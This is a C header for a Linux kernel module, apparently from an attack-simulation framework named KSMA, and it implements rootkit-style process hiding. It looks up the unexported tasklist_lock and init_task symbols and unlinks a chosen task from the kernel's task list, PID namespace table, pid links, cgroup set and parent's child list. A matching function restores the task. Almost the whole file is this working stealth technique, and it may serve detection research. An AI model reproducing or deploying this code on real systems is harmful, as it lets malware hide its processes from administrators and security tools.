/* SPDX-License-Identifier: GPL-2.0-only */
/* The ways of taking a process out of the kernel's views of processes, and of putting it back. */
#ifndef KSMA_PROCHIDE_H
#define KSMA_PROCHIDE_H

#include "attack.h"

#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

enum prochide_view {
	PROCHIDE_LIST = 1, /* init_task.tasks */
	PROCHIDE_IDR = 2,  /* the namespace's table of ids */
	PROCHIDE_LINK = 4, /* from the struct pid to its task */
	PROCHIDE_CGROUP = 8,
	PROCHIDE_PARENT = 16,
};

static struct task_struct *prochide_task;
static unsigned int prochide_views;
static struct hlist_head prochide_nowhere;
static struct list_head *prochide_set; /* the tasks of its css_set */

static inline rwlock_t *prochide_lock(void)
{
	return (rwlock_t *)attack_symbol("tasklist_lock");
}

static inline int prochide(int pid, unsigned int views)
{
	struct pid *id = find_get_pid(pid);
	struct task_struct *task = get_pid_task(id, PIDTYPE_PID);
	struct pid *of_task;
	rwlock_t *lock = prochide_lock();

	put_pid(id);
	if (!task || !lock)
		return -ESRCH;
	prochide_task = task; /* kept, so that it may be put back whatever it does */
	prochide_views = views;
	of_task = task->thread_pid;
	if (views & PROCHIDE_IDR)
		idr_remove(&of_task->numbers[0].ns->idr, of_task->numbers[0].nr);
	write_lock_irq(lock);
	if (views & PROCHIDE_LIST)
		list_del_init(&task->tasks);
	if (views & PROCHIDE_LINK) {
		/* Not a plain removal: the kernel's own, at the task's exit, wants a neighbour to write to. */
		hlist_del_rcu(&task->pid_links[PIDTYPE_PID]);
		INIT_HLIST_HEAD(&prochide_nowhere);
		hlist_add_head(&task->pid_links[PIDTYPE_PID], &prochide_nowhere);
	}
	if (views & PROCHIDE_CGROUP) {
		prochide_set = task->cg_list.prev;
		list_del_init(&task->cg_list);
	}
	if (views & PROCHIDE_PARENT)
		list_del_init(&task->sibling);
	write_unlock_irq(lock);
	return 0;
}

static inline void prochide_undo(void)
{
	struct task_struct *task = prochide_task,
			   *init = (struct task_struct *)attack_symbol("init_task");
	rwlock_t *lock = prochide_lock();
	struct pid *id = task->thread_pid;

	if (pid_alive(task) && init && lock) {
		if (prochide_views & PROCHIDE_IDR)
			idr_alloc(&id->numbers[0].ns->idr, id, id->numbers[0].nr,
				  id->numbers[0].nr + 1, GFP_KERNEL);
		write_lock_irq(lock);
		if (prochide_views & PROCHIDE_LIST)
			list_add_tail_rcu(&task->tasks, &init->tasks);
		if (prochide_views & PROCHIDE_LINK) {
			hlist_del_rcu(&task->pid_links[PIDTYPE_PID]);
			hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID], &id->tasks[PIDTYPE_PID]);
		}
		if (prochide_views & PROCHIDE_CGROUP)
			list_add(&task->cg_list, prochide_set);
		if (prochide_views & PROCHIDE_PARENT)
			list_add_tail(&task->sibling, &task->real_parent->children);
		write_unlock_irq(lock);
	}
	put_task_struct(task);
}

#endif
